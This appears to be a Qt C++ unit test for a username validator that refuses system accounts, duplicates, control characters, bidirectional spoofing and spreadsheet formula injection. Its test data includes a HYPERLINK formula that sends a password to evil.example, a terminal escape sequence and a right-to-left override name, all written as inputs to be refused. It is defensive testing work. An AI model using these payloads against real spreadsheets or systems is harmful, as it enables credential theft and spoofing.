#include "list/NameRules.h"
#include "list/RecordFormat.h"

#include <QTest>

using namespace Qt::StringLiterals;

class TestNameRules final : public QObject
{
    Q_OBJECT

private slots:
    void hostileNamesAreRefusedOnTheirLine_data();
    void hostileNamesAreRefusedOnTheirLine();
};

void TestNameRules::hostileNamesAreRefusedOnTheirLine_data()
{
    QTest::addColumn<QString>("output");
    QTest::addColumn<bool>("systemAccountsAllowed");
    QTest::addColumn<QByteArrayList>("names");
    // One a name, empty for a name let through.
    QTest::addColumn<QStringList>("refusals");

    const QString system = u"%1 is an account of the system itself (--allow-system-accounts lets it through)"_s;
    QTest::newRow("root and daemon in a list for chpasswd are refused")
        << u"chpasswd"_s << false << QByteArrayList{"alice", "root", "daemon"}
        << QStringList{{}, system.arg(u"root"_s), system.arg(u"daemon"_s)};
    QTest::newRow("root is let through when system accounts are allowed")
        << u"table"_s << true << QByteArrayList{"root"} << QStringList{{}};
    QTest::newRow("root is only a name where no account is made")
        << u"lines"_s << false << QByteArrayList{"root"} << QStringList{{}};

    QTest::newRow("bob twice in a list for accounts is refused, naming both lines")
        << u"json"_s << false << QByteArrayList{"bob", "alice", "bob"}
        << QStringList{{}, {}, u"bob is also on line 1"_s};
    QTest::newRow("bob twice is fine where no account is made")
        << u"csv"_s << false << QByteArrayList{"bob", "bob"} << QStringList{{}, {}};

    const QString control = u"a username holding the control character 0x%1 is refused"_s;
    QTest::newRow("NUL, SOH, CR, ESC and DEL inside a name are refused in every format")
        << u"lines"_s << false
        << QByteArrayList{"Marie-Anne\0Schmidt-Weber"_ba, "a\x01z", "al\rice", "\x1b]0;owned\x07", "Maximilian\x7f"}
        << QStringList{control.arg(u"00"_s), control.arg(u"01"_s), control.arg(u"0D"_s), control.arg(u"1B"_s),
                       control.arg(u"7F"_s)};

    const QString bidirectional =
        u"a username holding the bidirectional control U+%1, which makes it read as another name, is refused"_s;
    QTest::newRow("a right-to-left override that shows ecila as alice and an isolate are refused in every format")
        << u"lines"_s << false << QByteArrayList{"alice", "\u202Eecila"_ba, "\u2068bob"_ba}
        << QStringList{{}, bidirectional.arg(u"202E"_s), bidirectional.arg(u"2068"_s)};
    QTest::newRow("Arabic and Hebrew names need no control and pass, as does a dash of the same first byte")
        << u"table"_s << false
        << QByteArrayList{"\u0639\u0644\u064a"_ba, "\u05d3\u05d5\u05d3"_ba, "Zo\u00eb \u2013 \u00c5ngstr\u00f6m"_ba}
        << QStringList{{}, {}, {}};

    QTest::newRow("a Latin-1 name is refused where people read it")
        << u"json"_s << false << QByteArrayList{"Zo\xc3\xab", "Zo\xeb \xc5ngstr\xf6m"}
        << QStringList{{}, u"a username that is not valid UTF-8 text is refused (save the list as UTF-8)"_s};
    QTest::newRow("a Latin-1 name is fine for lines, which only programs read")
        << u"lines"_s << false << QByteArrayList{"Zo\xeb"} << QStringList{{}};

    const QString formula = u"a username starting with '%1' is refused: spreadsheets run it as a formula"_s;
    QTest::newRow("=1+1, a hyperlink carrying a password away and names starting + - @ or a tab are refused in a table")
        << u"table"_s << false
        << QByteArrayList{"=1+1",        R"(=HYPERLINK("http://evil.example/?pw="&B3,"Verify your account"))",
                          "+31 20",      "-2+3",
                          "@SUM(1)",     "\t=1",
                          "Smith-Jones", "a=b"}
        << QStringList{formula.arg(u"="_s),
                       formula.arg(u"="_s),
                       formula.arg(u"+"_s),
                       formula.arg(u"-"_s),
                       formula.arg(u"@"_s),
                       control.arg(u"09"_s),
                       {},
                       {}};
    QTest::newRow("a name starting with = is fine where no spreadsheet opens it")
        << u"chpasswd"_s << false << QByteArrayList{"=1+1"} << QStringList{{}};
}

void TestNameRules::hostileNamesAreRefusedOnTheirLine()
{
    QFETCH(QString, output);
    QFETCH(bool, systemAccountsAllowed);
    QFETCH(QByteArrayList, names);
    QFETCH(QStringList, refusals);

    NameUses uses;
    uses |= *RecordFormat::find(output);
    NameRules rules(uses, systemAccountsAllowed ? QSet<QByteArray>() : QSet<QByteArray>{"root"_ba, "daemon"_ba}, true);
    for (qsizetype i = 0; i < names.size(); ++i)
        QCOMPARE(rules.refusal(names[i], quint64(i + 1)), refusals[i]);
}

QTEST_GUILESS_MAIN(TestNameRules)
#include "tst_namerules.moc"
